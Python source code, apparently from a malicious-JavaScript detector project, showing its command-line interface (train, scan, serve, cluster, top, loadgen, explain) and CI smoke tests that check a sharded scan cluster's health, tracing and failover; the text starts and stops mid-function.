                f"{_na(burn.get('fast'), '.2f'):>10s} {_na(burn.get('slow'), '.2f'):>10s}  "
                f"{slo.get('objective', '')}"
            )
    lines.append("")
    lines.append(
        f"{'shard':<12s} {'state':>10s} {'rps':>8s} {'p95 ms':>8s} "
        f"{'queue':>6s} {'cache%':>7s} {'restarts':>8s}"
    )
    for shard in payload.get("fleet") or []:
        ratio = shard.get("cache_hit_ratio")
        cache = "-" if ratio is None else f"{100.0 * ratio:.1f}"
        lines.append(
            f"{shard.get('shard', '?'):<12s} {shard.get('state', '?'):>10s} "
            f"{_na(shard.get('rps'), '.1f'):>8s} {_na(shard.get('p95_ms'), '.1f'):>8s} "
            f"{_na(shard.get('queue_depth'), '.0f'):>6s} {cache:>7s} "
            f"{_na(shard.get('restarts')):>8s}"
        )
    crash_loops = payload.get("crash_loops") or {}
    parked = crash_loops.get("parked") or []
    footer = []
    if parked:
        footer.append(f"parked: {', '.join(parked)}")
    autoscale = payload.get("autoscale")
    if autoscale:
        footer.append(
            f"autoscale {autoscale.get('min_shards', '?')}–{autoscale.get('max_shards', '?')} "
            f"(cooldown {_na(autoscale.get('cooldown_remaining_s'), '.0f')}s)"
        )
    scrape = payload.get("scrape") or {}
    if scrape.get("errors_total"):
        footer.append(f"scrape errors: {scrape['errors_total']:.0f}")
    if footer:
        lines.append("")
        lines.append("   ".join(footer))
    return lines


def _cmd_top(args: argparse.Namespace) -> int:
    """Poll the router's /v1/status and render a live fleet dashboard."""
    import time as _time

    from repro.client import ScanAPIError, ScanClient

    client = ScanClient(args.url, timeout_s=args.timeout_s, retries=0)
    live = sys.stdout.isatty() and args.count != 1
    frames = 0
    try:
        while True:
            try:
                payload = client.status()
            except ScanAPIError as error:
                print(f"error: {args.url}/v1/status: {error}", file=sys.stderr)
                return 2
            frame = "\n".join(_format_top(payload))
            if live:
                # Home + clear-to-end keeps the frame flicker-free.
                sys.stdout.write(f"\x1b[H\x1b[2J{frame}\n")
                sys.stdout.flush()
            else:
                print(frame)
            frames += 1
            if args.count and frames >= args.count:
                return 0
            _time.sleep(args.interval_s)
    except KeyboardInterrupt:
        return 0


def _cmd_loadgen(args: argparse.Namespace) -> int:
    """Drive load at a daemon/router; exit 1 when any request failed."""
    from repro.serve.loadgen import run_load

    _configure_logging(args)
    sources, names = _read_inputs(args.paths)
    if not sources:
        print("no input files", file=sys.stderr)
        return 2
    try:
        report = run_load(
            args.host,
            args.port,
            list(zip(names, sources)),
            concurrency=args.concurrency,
            repeats=args.repeats,
            timeout_s=args.timeout_s,
            trace_ratio=args.trace_ratio,
            retries=args.retries,
        )
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    if args.format == "json":
        print(json.dumps(report.to_dict(), indent=2))
    else:
        print(report.summary())
    return 1 if report.errors else 0


def _cmd_explain(args: argparse.Namespace) -> int:
    detector = load_detector(args.model)
    if args.trace:
        # Per-verdict provenance: scan the given scripts with tracing on
        # and show what drove each verdict (rules, attention paths,
        # cluster feature weights) instead of the global feature ranking.
        if not args.paths:
            print("error: explain --trace needs script paths to explain", file=sys.stderr)
            return 2
        sources, names = _read_inputs(args.paths)
        if not sources:
            print("no input files", file=sys.stderr)
            return 2
        report = detector.scan_batch(sources, names=names, trace=True)
        if args.format == "json":
            print(json.dumps([
                {
                    "path": result.path,
                    "verdict": result.verdict,
                    "probability": result.probability,
                    "provenance": (result.trace or {}).get("provenance"),
                }
                for result in report.results
            ], indent=2))
            return 0
        for result in report.results:
            print(f"{result.verdict:9s}  P={result.probability:.3f}  {result.path}")
            _print_provenance(result, indent="  ")
        return 0
    explanations = detector.explain(top_n=args.top)
    if args.format == "json":
        print(json.dumps([
            {
                "importance": e.importance,
                "cluster_label": e.cluster_label,
                "central_path_signature": e.central_path_signature,
                "cluster_size": e.cluster_size,
            }
            for e in explanations
        ], indent=2))
        return 0
    print(f"{'importance':>10s} {'class':>10s}  central path")
    for explanation in explanations:
        print(f"{explanation.importance:>10.3f} {explanation.cluster_label:>10s}  "
              f"{explanation.central_path_signature[:120]}")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="repro", description=__doc__)
    sub = parser.add_subparsers(dest="command", required=True)

    train = sub.add_parser("train", help="train on the synthetic corpus and save a model")
    train.add_argument("--out", required=True, help="output model directory")
    train.add_argument("--seed", type=int, default=0)
    train.add_argument("--train-per-class", type=int, default=60)
    train.add_argument("--pretrain-per-class", type=int, default=20)
    train.add_argument("--embed-dim", type=int, default=64)
    train.add_argument("--epochs", type=int, default=12)
    train.add_argument("--k-benign", type=int, default=11)
    train.add_argument("--k-malicious", type=int, default=10)
    train.set_defaults(fn=_cmd_train)

    scan = sub.add_parser(
        "scan",
        help="scan .js files/directories (or - for stdin) with a saved model",
        epilog="exit codes: 0 nothing malicious, 1 malicious found, 2 usage or I/O error",
    )
    scan.add_argument("--model", required=True)
    scan.add_argument("--threshold", type=float, default=0.5)
    scan.add_argument("--workers", type=int, default=1,
                      help="extraction/embedding worker processes (1 = sequential)")
    scan.add_argument("--cache-dir", default=None,
                      help="persistent content-addressed embedding cache directory")
    scan.add_argument("--format", choices=("text", "json"), default="text",
                      help="text lines or one machine-readable ScanReport JSON object")
    scan.add_argument("--triage", action="store_true",
                      help="run static analysis first; decisive rule hits skip embedding")
    scan.add_argument("--timeout-s", type=float, default=None,
                      help="per-script wall-clock deadline; enables fault-isolated workers")
    scan.add_argument("--max-rss-mb", type=int, default=None,
                      help="per-script memory headroom in MiB (RLIMIT_AS); enables isolation")
    scan.add_argument("--quarantine-dir", default=None,
                      help="persist quarantine.jsonl of poison scripts here")
    scan.add_argument("--trace", action="store_true",
                      help="record a span tree + per-file verdict provenance in the report")
    scan.add_argument("--deobfuscate", action="store_true",
                      help="run the staged AST normalizer (constant folding, string "
                           "decoding, string-array unpacking, forced execution) before "
                           "path extraction; clean scripts are unaffected")
    _add_logging_flags(scan, default_level="warning")
    scan.add_argument("paths", nargs="+",
                      help=".js files, directories, or - to read one script from stdin")
    scan.set_defaults(fn=_cmd_scan)

    analyze = sub.add_parser(
        "analyze",
        help="static-analysis rules only: explainable findings, no model needed",
        epilog="exit codes: 0 nothing at/above --fail-on, 1 failing findings, 2 usage error",
    )
    analyze.add_argument("--format", choices=("text", "json"), default="text",
                         help="text finding lines or one JSON object with per-file reports")
    analyze.add_argument("--fail-on", choices=("info", "warning", "error"), default="error",
                         help="lowest severity that makes the exit code 1 (default: error)")
    analyze.add_argument("--deobfuscate", action="store_true",
                         help="normalize first and analyze the deobfuscated text; "
                              "findings and taint witnesses carry raw_line spans "
                              "mapped back to the submitted file")
    _add_logging_flags(analyze, default_level="warning")
    analyze.add_argument("paths", nargs="+",
                         help=".js files, directories, or - to read one script from stdin")
    analyze.set_defaults(fn=_cmd_analyze)

    serve = sub.add_parser(
        "serve",
        help="run the asyncio scan daemon (POST /scan, /scan/batch; GET /healthz, /version, /metrics)",
    )
    serve.add_argument("--model", required=True)
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=8077,
                       help="TCP port (0 = ephemeral)")
    serve.add_argument("--workers", type=int, default=1,
                       help="extraction/embedding worker processes behind the batcher")
    serve.add_argument("--max-batch", type=int, default=8,
                       help="flush a micro-batch at this many queued scripts")
    serve.add_argument("--max-wait-ms", type=float, default=25.0,
                       help="flush a micro-batch when its oldest script is this old")
    serve.add_argument("--queue-limit", type=int, default=64,
                       help="admission bound; beyond it requests get 429 + Retry-After")
    serve.add_argument("--cache-dir", default=None,
                       help="persistent content-addressed embedding cache directory")
    serve.add_argument("--threshold", type=float, default=0.5,
                       help="default verdict threshold (overridable per request)")
    serve.add_argument("--request-timeout-s", type=float, default=30.0,
                       help="seconds before a queued request is answered 503")
    serve.add_argument("--request-timeout", dest="request_timeout_s", type=float,
                       action=_DeprecatedAlias, successor="--request-timeout-s")
    serve.add_argument("--shards", type=int, default=1,
                       help="run N supervised shard daemons behind a router "
                            "instead of one in-process daemon")
    serve.add_argument("--timeout-s", type=float, default=None,
                       help="per-script wall-clock deadline; enables fault-isolated workers")
    serve.add_argument("--max-rss-mb", type=int, default=None,
                       help="per-script memory headroom in MiB (RLIMIT_AS); enables isolation")
    serve.add_argument("--quarantine-dir", default=None,
                       help="persist quarantine.jsonl of poison scripts here")
    serve.add_argument("--breaker-threshold", type=int, default=5,
                       help="consecutive worker deaths that open the circuit breaker")
    serve.add_argument("--breaker-reset-s", type=float, default=30.0,
                       help="seconds the breaker stays open before a half-open probe")
    serve.add_argument("--max-body-bytes", type=int, default=16 * 1024 * 1024,
                       help="request body cap; larger bodies are refused with 413")
    serve.add_argument("--trace-sample-rate", type=float, default=0.1,
                       help="fraction of requests traced (inbound sampled traceparent wins)")
    serve.add_argument("--trace-capacity", type=int, default=256,
                       help="ring-buffer size behind GET /debug/traces")
    serve.add_argument("--trace-slow-ms", type=float, default=250.0,
                       help="traces slower than this are retained preferentially")
    serve.add_argument("--deobfuscate", action="store_true",
                       help="normalize every request through the deobfuscation pre-pass "
                            "by default (requests may still override per call)")
    _add_logging_flags(serve, default_level="info")
    serve.set_defaults(fn=_cmd_serve)

    cluster = sub.add_parser(
        "cluster",
        help="run the sharded scan tier: one router consistent-hashing across "
             "N supervised shard daemons",
    )
    cluster.add_argument("--model", required=True)
    cluster.add_argument("--host", default="127.0.0.1")
    cluster.add_argument("--port", type=int, default=8076,
                         help="router TCP port (0 = ephemeral)")
    cluster.add_argument("--shards", type=int, default=2,
                         help="scan shard daemons behind the router")
    cluster.add_argument("--cache-dir", default=None,
                         help="on-disk embedding cache shared by all shards "
                              "(enables cluster-wide single-flight dedup)")
    cluster.add_argument("--workers", type=int, default=1,
                         help="worker processes per shard")
    cluster.add_argument("--max-batch", type=int, default=8,
                         help="per-shard micro-batch flush size")
    cluster.add_argument("--max-wait-ms", type=float, default=25.0,
                         help="per-shard micro-batch flush age")
    cluster.add_argument("--queue-limit", type=int, default=64,
                         help="per-shard admission bound (429 beyond it)")
    cluster.add_argument("--threshold", type=float, default=0.5,
                         help="default verdict threshold (overridable per request)")
    cluster.add_argument("--request-timeout-s", type=float, default=30.0,
                         help="per-shard request budget; the router allows +10s "
                              "on top for retries")
    cluster.add_argument("--vnodes", type=int, default=64,
                         help="consistent-hash ring points per shard")
    cluster.add_argument("--bind", default=None,
                         help="shard bind/dial host (default: same as --host); "
                              "use 127.0.0.1 to keep shards loopback-only while "
                              "the router listens on an outward interface")
    cluster.add_argument("--replicas", type=int, default=2,
                         help="replicas per hash-ring slot: the primary plus R-1 "
                              "deterministic failover shards")
    cluster.add_argument("--verdict-cache-size", type=int, default=1024,
                         help="router verdict-cache entries (0 disables)")
    cluster.add_argument("--min-shards", type=int, default=None,
                         help="enable queue-depth autoscaling with this floor")
    cluster.add_argument("--max-shards", type=int, default=None,
                         help="enable queue-depth autoscaling with this ceiling")
    cluster.add_argument("--scale-up-queue-depth", type=float, default=8.0,
                         help="mean per-shard queue depth that triggers scale-up")
    cluster.add_argument("--scale-down-queue-depth", type=float, default=1.0,
                         help="mean queue depth under which the fleet shrinks "
                              "(must stay below the up threshold: hysteresis)")
    cluster.add_argument("--scale-sustain-s", type=float, default=5.0,
                         help="seconds pressure/idleness must persist before acting")
    cluster.add_argument("--scale-cooldown-s", type=float, default=30.0,
                         help="minimum seconds between scaling actions")
    cluster.add_argument("--restart-budget", type=int, default=5,
                         help="consecutive shard deaths tolerated before the "
                              "shard is parked in crash_loop state")
    cluster.add_argument("--restart-backoff-s", type=float, default=0.5,
                         help="base of the exponential restart backoff")
    cluster.add_argument("--trace-sample-rate", type=float, default=0.1,
                         help="fraction of routed requests traced end to end")
    _add_logging_flags(cluster, default_level="info")
    cluster.set_defaults(fn=_cmd_cluster)

    top = sub.add_parser(
        "top",
        help="live per-shard fleet dashboard polling a router's GET /v1/status",
    )
    top.add_argument("--url", default="http://127.0.0.1:8076",
                     help="router base URL (the /v1/status endpoint is router-only)")
    top.add_argument("--interval-s", type=float, default=2.0,
                     help="seconds between /v1/status polls")
    top.add_argument("--count", type=int, default=0,
                     help="frames to render before exiting (0 = until Ctrl-C); "
                          "--count 1 prints one snapshot and exits")
    top.add_argument("--timeout-s", type=float, default=10.0,
                     help="per-poll socket timeout")
    top.set_defaults(fn=_cmd_top)

    loadgen = sub.add_parser(
        "loadgen",
        help="drive concurrent POST /v1/scan load at a daemon or router",
        epilog="exit codes: 0 all requests succeeded, 1 some failed, 2 usage error",
    )
    loadgen.add_argument("--host", default="127.0.0.1")
    loadgen.add_argument("--port", type=int, required=True,
                         help="daemon or router TCP port")
    loadgen.add_argument("--concurrency", type=int, default=8,
                         help="worker threads, each driving one ScanClient")
    loadgen.add_argument("--repeats", type=int, default=1,
                         help="times each input script is submitted")
    loadgen.add_argument("--timeout-s", type=float, default=60.0,
                         help="per-request socket timeout")
    loadgen.add_argument("--trace-ratio", type=float, default=0.0,
                         help="fraction of requests carrying a sampled traceparent")
    loadgen.add_argument("--retries", type=int, default=0,
                         help="client retries on 429/503 (0 measures backpressure)")
    loadgen.add_argument("--format", choices=("text", "json"), default="text",
                         help="one summary line, or the full LoadReport as JSON")
    _add_logging_flags(loadgen, default_level="warning")
    loadgen.add_argument("paths", nargs="+",
                         help=".js files, directories, or - to read one script from stdin")
    loadgen.set_defaults(fn=_cmd_loadgen)

    explain = sub.add_parser(
        "explain",
        help="show a saved model's top features, or (--trace FILE…) what drove a verdict",
    )
    explain.add_argument("--model", required=True)
    explain.add_argument("--top", type=int, default=5)
    explain.add_argument("--format", choices=("text", "json"), default="text")
    explain.add_argument("--trace", action="store_true",
                         help="scan the given scripts with tracing and print per-verdict provenance")
    explain.add_argument("paths", nargs="*",
                         help="scripts to explain (required with --trace)")
    explain.set_defaults(fn=_cmd_explain)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
