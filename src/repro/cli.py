"""Command-line interface: train, scan, and explain.

Usage::

    python -m repro.cli train  --out model_dir [--train-per-class 60] [--seed 0]
    python -m repro.cli scan   --model model_dir file_or_dir [...]
    python -m repro.cli explain --model model_dir [--top 5]

``train`` fits on the synthetic corpus (the offline default); real
deployments would swap in their own labeled corpus via the library API.
"""

from __future__ import annotations

import argparse
import sys
import time
from pathlib import Path

from repro.core import JSRevealer, JSRevealerConfig
from repro.core.persistence import load_detector, save_detector
from repro.datasets import experiment_split


def _cmd_train(args: argparse.Namespace) -> int:
    split = experiment_split(
        seed=args.seed,
        pretrain_per_class=args.pretrain_per_class,
        train_per_class=args.train_per_class,
        test_per_class=2,
        realistic=True,
    )
    config = JSRevealerConfig(
        embed_dim=args.embed_dim,
        pretrain_epochs=args.epochs,
        k_benign=args.k_benign,
        k_malicious=args.k_malicious,
        seed=args.seed,
    )
    detector = JSRevealer(config)
    print(f"pre-training embedder on {len(split.pretrain)} scripts…", file=sys.stderr)
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    print(f"fitting detector on {len(split.train)} scripts…", file=sys.stderr)
    detector.fit(split.train.sources, split.train.labels)
    save_detector(detector, args.out)
    print(f"saved model to {args.out}")
    return 0


def _collect_files(paths: list[str]) -> list[Path]:
    out: list[Path] = []
    for raw in paths:
        path = Path(raw)
        if path.is_dir():
            out.extend(sorted(path.glob("**/*.js")))
        elif path.exists():
            out.append(path)
        else:
            print(f"warning: {path} not found", file=sys.stderr)
    return out


def _cmd_scan(args: argparse.Namespace) -> int:
    detector = load_detector(args.model)
    files = _collect_files(args.paths)
    if not files:
        print("no input files", file=sys.stderr)
        return 2
    sources = [f.read_text(errors="replace") for f in files]
    started = time.perf_counter()
    probabilities = detector.predict_proba(sources)
    elapsed = time.perf_counter() - started
    exit_code = 0
    for path, proba in zip(files, probabilities):
        malicious = proba[1] >= args.threshold
        exit_code = 1 if malicious else exit_code
        verdict = "MALICIOUS" if malicious else "clean"
        print(f"{verdict:9s}  P={proba[1]:.3f}  {path}")
    print(f"# scanned {len(files)} files in {elapsed:.2f}s "
          f"({1000 * elapsed / len(files):.1f} ms/file)", file=sys.stderr)
    return exit_code


def _cmd_explain(args: argparse.Namespace) -> int:
    detector = load_detector(args.model)
    print(f"{'importance':>10s} {'class':>10s}  central path")
    for explanation in detector.explain(top_n=args.top):
        print(f"{explanation.importance:>10.3f} {explanation.cluster_label:>10s}  "
              f"{explanation.central_path_signature[:120]}")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="repro", description=__doc__)
    sub = parser.add_subparsers(dest="command", required=True)

    train = sub.add_parser("train", help="train on the synthetic corpus and save a model")
    train.add_argument("--out", required=True, help="output model directory")
    train.add_argument("--seed", type=int, default=0)
    train.add_argument("--train-per-class", type=int, default=60)
    train.add_argument("--pretrain-per-class", type=int, default=20)
    train.add_argument("--embed-dim", type=int, default=64)
    train.add_argument("--epochs", type=int, default=12)
    train.add_argument("--k-benign", type=int, default=11)
    train.add_argument("--k-malicious", type=int, default=10)
    train.set_defaults(fn=_cmd_train)

    scan = sub.add_parser("scan", help="scan .js files/directories with a saved model")
    scan.add_argument("--model", required=True)
    scan.add_argument("--threshold", type=float, default=0.5)
    scan.add_argument("paths", nargs="+")
    scan.set_defaults(fn=_cmd_scan)

    explain = sub.add_parser("explain", help="show a saved model's top features")
    explain.add_argument("--model", required=True)
    explain.add_argument("--top", type=int, default=5)
    explain.set_defaults(fn=_cmd_explain)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
