"""CI smoke check for the sharded tier: router + shards + supervisor.

Usage: cluster_smoke.py BASE_URL SCRIPT_PATH [--trace-out PATH] [--failover-out PATH]
                        [--prof-out PATH]

Runs against a ``repro cluster`` (router + 2 shards, R=2 replica
placement) booted by the workflow, through the same
:class:`repro.client.ScanClient` real callers use.  The contract
exercised end to end:

* the router aggregates a healthy fleet in ``/v1/healthz`` and reports
  its replica factor and verdict-cache state,
* a scan through the router returns a well-formed verdict,
* a traced request produces ONE merged trace spanning both processes
  (``router.scan`` + the shard's ``http.scan``, shard-annotated),
  written to ``--trace-out`` as a workflow artifact,
* SIGKILLing a shard mid-run loses no requests **with client retries
  disabled** — the router's replica failover alone absorbs the loss,
  ``repro_router_failovers_total`` ticks, and the supervisor replaces
  the dead shard under the same id on a fresh pid.  The evidence
  (fleet before/after, failover counters) is written to
  ``--failover-out`` as a workflow artifact,
* after the failover settles, the observability plane agrees: ``/v1/status``
  reports every shard healthy with every SLO back to ``ok`` (a non-empty
  SLO block — the states are earned, not vacuous), the federated
  ``/v1/metrics?aggregate=sum`` view answers, and a ``/v1/debug/prof``
  capture writes collapsed stacks to ``--prof-out`` as a workflow
  artifact.

Exits non-zero (with the failure printed) on any violation.
"""

import json
import os
import pathlib
import signal
import sys
import time

# CI invokes this script directly (no PYTHONPATH); the repo layout is fixed.
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "src"))

from repro.client import ScanAPIError, ScanClient  # noqa: E402

TRACE_ID = "d2" * 16
TRACEPARENT = f"00-{TRACE_ID}-{'cd' * 8}-01"


def wait_up(client, timeout_s=120.0):
    deadline = time.time() + timeout_s
    while True:
        try:
            health = client.healthz()
            if health.get("n_healthy") == health.get("n_shards"):
                return health
        except ScanAPIError:
            pass
        if time.time() > deadline:
            raise SystemExit(f"cluster did not come up within {timeout_s:.0f}s")
        time.sleep(0.5)


def trace_check(client, source, out_path):
    """One traceparent, two processes, one merged span tree."""
    verdict = client.scan(source + "\n// cluster probe", name="traced.js", traceparent=TRACEPARENT)
    assert verdict.trace_id == TRACE_ID, verdict.raw
    merged = client.trace(TRACE_ID)
    names = [span["name"] for span in merged["spans"]]
    assert "router.scan" in names, names  # the router's hop
    assert "http.scan" in names, names  # the shard's hop, same trace id
    shard_spans = [s for s in merged["spans"] if s.get("attributes", {}).get("shard")]
    assert shard_spans, "expected spans annotated with their shard id"
    assert merged["shards"], merged
    assert merged["tree"], merged
    with open(out_path, "w", encoding="utf-8") as handle:
        json.dump(merged, handle, indent=2)
    print(
        f"trace: {merged['n_spans']} spans across router + {merged['shards']} "
        f"under {TRACE_ID}, written to {out_path}"
    )


def failover_counts(client):
    """``repro_router_failovers_total`` per reason, from router metrics."""
    counts = {}
    for line in client.metrics_text().splitlines():
        if line.startswith("repro_router_failovers_total{"):
            reason = line.split('reason="', 1)[1].split('"', 1)[0]
            counts[reason] = int(line.rsplit(" ", 1)[-1])
    return counts


def kill_and_failover(client, base_url, source, failover_out=None):
    """SIGKILL one shard; replica failover absorbs it; supervisor replaces it."""
    before = {s["shard"]: s for s in client.healthz()["shards"]}
    failovers_before = failover_counts(client)
    victim = before["shard-0"]
    os.kill(victim["pid"], signal.SIGKILL)
    print(f"killed {victim['shard']} (pid {victim['pid']})")

    # Issued straight through the kill window WITHOUT client retries: with
    # R=2 placement every slot the dead primary owned has a live replica,
    # so the router alone keeps every request succeeding.
    no_retry = ScanClient(base_url, timeout_s=60.0, retries=0)
    for i in range(8):
        verdict = no_retry.scan(source + f"\n// failover {i}", name=f"failover-{i}.js")
        assert verdict.verdict in ("benign", "malicious"), verdict.raw
    print("failover: 8/8 scans succeeded across the kill window, client retries off")

    failovers_after = failover_counts(client)
    failed_over = sum(failovers_after.values()) - sum(failovers_before.values())
    assert failed_over >= 1, (
        f"expected >=1 replica failover after the kill, counters {failovers_after}"
    )
    print(f"router failovers during the kill window: {failed_over} ({failovers_after})")

    deadline = time.time() + 120
    while True:
        shards = {s["shard"]: s for s in client.healthz()["shards"]}
        shard = shards[victim["shard"]]
        if shard["healthy"] and shard["restarts"] >= 1 and shard["pid"] != victim["pid"]:
            break
        if time.time() > deadline:
            raise SystemExit(f"{victim['shard']} was not replaced within 120s: {shard}")
        time.sleep(0.5)
    health = client.healthz()
    assert health["status"] == "ok" and health["n_healthy"] == health["n_shards"], health
    print(f"replacement: {shard['shard']} back on pid {shard['pid']} "
          f"(restarts={shard['restarts']}), fleet {health['n_healthy']}/{health['n_shards']}")

    verdict = client.scan(source, name="after-replacement.js")
    assert verdict.verdict in ("benign", "malicious"), verdict.raw

    if failover_out:
        evidence = {
            "victim": {"shard": victim["shard"], "pid": victim["pid"]},
            "kill_window_scans": {"requests": 8, "errors": 0, "client_retries": 0},
            "router_failovers_before": failovers_before,
            "router_failovers_after": failovers_after,
            "fleet_before": sorted(before),
            "fleet_after": {
                s["shard"]: {
                    "pid": s["pid"],
                    "healthy": s["healthy"],
                    "state": s.get("state"),
                    "restarts": s.get("restarts"),
                }
                for s in health["shards"]
            },
        }
        with open(failover_out, "w", encoding="utf-8") as handle:
            json.dump(evidence, handle, indent=2)
        print(f"failover evidence written to {failover_out}")


def obs_check(client, prof_out=None):
    """The fleet pane after the dust settles: status, SLOs, federation, prof."""
    deadline = time.time() + 60
    while True:
        status = client.status()
        if (
            status["n_healthy"] == status["n_shards"]
            and status["slo"]
            and all(slo["state"] == "ok" for slo in status["slo"])
        ):
            break
        if time.time() > deadline:
            raise SystemExit(f"SLOs never settled back to all-ok after failover: {status}")
        time.sleep(0.5)
    assert status["status"] == "ok", status
    assert status["scrape"]["members"], status
    assert len(status["fleet"]) == status["n_shards"], status
    for slo in status["slo"]:
        assert slo["objective"], slo
        assert slo["burn_rate"]["fast"] < 6.0, slo  # nowhere near a warn
    print("status: fleet {}/{} healthy, SLOs {}".format(
        status["n_healthy"], status["n_shards"],
        {slo["name"]: slo["state"] for slo in status["slo"]},
    ))

    merged = client.metrics_text(aggregate="sum")
    assert "repro_http_requests_total" in merged, merged[:400]
    assert "repro_build_info" in merged, merged[:400]
    print(f"federation: aggregated exposition ok ({len(merged.splitlines())} lines)")

    if prof_out:
        profile = client.prof(seconds=2.0)
        assert profile.startswith("# wall-clock profile:"), profile[:120]
        with open(prof_out, "w", encoding="utf-8") as handle:
            handle.write(profile)
        print(f"profile: collapsed stacks written to {prof_out}")


def main(base_url, script_path, extra):
    client = ScanClient(base_url, timeout_s=60.0, retries=3)
    health = wait_up(client)
    assert health["status"] == "ok" and health["role"] == "router", health
    assert health["n_shards"] >= 2, health
    assert health["replicas"] >= 2, health  # the failover check depends on R>=2
    assert "verdict_cache" in health, health
    print("healthz:", health)

    version = client.version()
    assert version["service"] == "repro.serve.router", version

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    verdict = client.scan(source, name=script_path)
    print("verdict:", verdict.raw)
    assert verdict.verdict in ("benign", "malicious"), verdict.raw
    # Every shard booted from the same model dir; the verdict must carry
    # that fleet-wide fingerprint.
    fingerprints = {s["model_fingerprint"] for s in health["shards"]}
    assert fingerprints == {verdict.model_fingerprint}, (fingerprints, verdict.raw)

    text = client.metrics_text()
    assert "repro_router_forwarded_total" in text, text[:400]
    assert "repro_http_requests_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))

    if "--trace-out" in extra:
        trace_check(client, source, extra[extra.index("--trace-out") + 1])
    failover_out = None
    if "--failover-out" in extra:
        failover_out = extra[extra.index("--failover-out") + 1]
    kill_and_failover(client, base_url, source, failover_out=failover_out)
    prof_out = None
    if "--prof-out" in extra:
        prof_out = extra[extra.index("--prof-out") + 1]
    obs_check(client, prof_out=prof_out)
    print("cluster smoke: all checks passed")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
