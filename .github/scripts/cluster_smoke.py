"""CI smoke check for the sharded tier: router + shards + supervisor.

Usage: cluster_smoke.py BASE_URL SCRIPT_PATH [--trace-out PATH]

Runs against a ``repro cluster`` (router + 2 shards) booted by the
workflow, through the same :class:`repro.client.ScanClient` real callers
use.  The contract exercised end to end:

* the router aggregates a healthy fleet in ``/v1/healthz``,
* a scan through the router returns a well-formed verdict,
* a traced request produces ONE merged trace spanning both processes
  (``router.scan`` + the shard's ``http.scan``, shard-annotated),
  written to ``--trace-out`` as a workflow artifact,
* SIGKILLing a shard mid-run loses no requests — the retrying client
  plus the router's failover absorb it — and the supervisor replaces
  the dead shard under the same id on a fresh pid.

Exits non-zero (with the failure printed) on any violation.
"""

import json
import os
import pathlib
import signal
import sys
import time

# CI invokes this script directly (no PYTHONPATH); the repo layout is fixed.
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "src"))

from repro.client import ScanAPIError, ScanClient  # noqa: E402

TRACE_ID = "d2" * 16
TRACEPARENT = f"00-{TRACE_ID}-{'cd' * 8}-01"


def wait_up(client, timeout_s=120.0):
    deadline = time.time() + timeout_s
    while True:
        try:
            health = client.healthz()
            if health.get("n_healthy") == health.get("n_shards"):
                return health
        except ScanAPIError:
            pass
        if time.time() > deadline:
            raise SystemExit(f"cluster did not come up within {timeout_s:.0f}s")
        time.sleep(0.5)


def trace_check(client, source, out_path):
    """One traceparent, two processes, one merged span tree."""
    verdict = client.scan(source + "\n// cluster probe", name="traced.js", traceparent=TRACEPARENT)
    assert verdict.trace_id == TRACE_ID, verdict.raw
    merged = client.trace(TRACE_ID)
    names = [span["name"] for span in merged["spans"]]
    assert "router.scan" in names, names  # the router's hop
    assert "http.scan" in names, names  # the shard's hop, same trace id
    shard_spans = [s for s in merged["spans"] if s.get("attributes", {}).get("shard")]
    assert shard_spans, "expected spans annotated with their shard id"
    assert merged["shards"], merged
    assert merged["tree"], merged
    with open(out_path, "w", encoding="utf-8") as handle:
        json.dump(merged, handle, indent=2)
    print(
        f"trace: {merged['n_spans']} spans across router + {merged['shards']} "
        f"under {TRACE_ID}, written to {out_path}"
    )


def kill_and_failover(client, source):
    """SIGKILL one shard; retried requests succeed; supervisor replaces it."""
    before = {s["shard"]: s for s in client.healthz()["shards"]}
    victim = before["shard-0"]
    os.kill(victim["pid"], signal.SIGKILL)
    print(f"killed {victim['shard']} (pid {victim['pid']})")

    # Issued straight through the kill window: the router retries the dead
    # shard's keys onto the survivor, so every request still succeeds.
    for i in range(6):
        verdict = client.scan(source + f"\n// failover {i}", name=f"failover-{i}.js")
        assert verdict.verdict in ("benign", "malicious"), verdict.raw
    print("failover: 6/6 scans succeeded across the kill window")

    deadline = time.time() + 120
    while True:
        shards = {s["shard"]: s for s in client.healthz()["shards"]}
        shard = shards[victim["shard"]]
        if shard["healthy"] and shard["restarts"] >= 1 and shard["pid"] != victim["pid"]:
            break
        if time.time() > deadline:
            raise SystemExit(f"{victim['shard']} was not replaced within 120s: {shard}")
        time.sleep(0.5)
    health = client.healthz()
    assert health["status"] == "ok" and health["n_healthy"] == health["n_shards"], health
    print(f"replacement: {shard['shard']} back on pid {shard['pid']} "
          f"(restarts={shard['restarts']}), fleet {health['n_healthy']}/{health['n_shards']}")

    verdict = client.scan(source, name="after-replacement.js")
    assert verdict.verdict in ("benign", "malicious"), verdict.raw


def main(base_url, script_path, extra):
    client = ScanClient(base_url, timeout_s=60.0, retries=3)
    health = wait_up(client)
    assert health["status"] == "ok" and health["role"] == "router", health
    assert health["n_shards"] >= 2, health
    print("healthz:", health)

    version = client.version()
    assert version["service"] == "repro.serve.router", version

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    verdict = client.scan(source, name=script_path)
    print("verdict:", verdict.raw)
    assert verdict.verdict in ("benign", "malicious"), verdict.raw
    # Every shard booted from the same model dir; the verdict must carry
    # that fleet-wide fingerprint.
    fingerprints = {s["model_fingerprint"] for s in health["shards"]}
    assert fingerprints == {verdict.model_fingerprint}, (fingerprints, verdict.raw)

    text = client.metrics_text()
    assert "repro_router_forwarded_total" in text, text[:400]
    assert "repro_http_requests_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))

    if "--trace-out" in extra:
